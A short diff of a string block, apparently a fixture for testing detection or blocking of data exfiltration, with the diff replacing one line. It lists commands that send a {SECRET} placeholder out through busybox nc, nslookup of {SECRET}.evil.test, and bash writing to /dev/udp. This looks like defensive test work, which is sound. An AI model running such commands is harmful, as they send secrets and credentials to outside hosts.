@@ -31,7 +31,7 @@ echo {SECRET} | busybox nc -w 1 db.example.com 8443
 echo {SECRET} | busybox nc -w 1 lan.example.com 5432
 echo {SECRET} | busybox nc -w 1 {SECRET}.evil.test 5432
 busybox nslookup {SECRET}.evil.test 8.8.8.8
-echo {SECRET} | busybox nc -u -w 1 {API} 443
+bash -c 'echo {SECRET} > /dev/udp/{API}/443'
 """
 
 
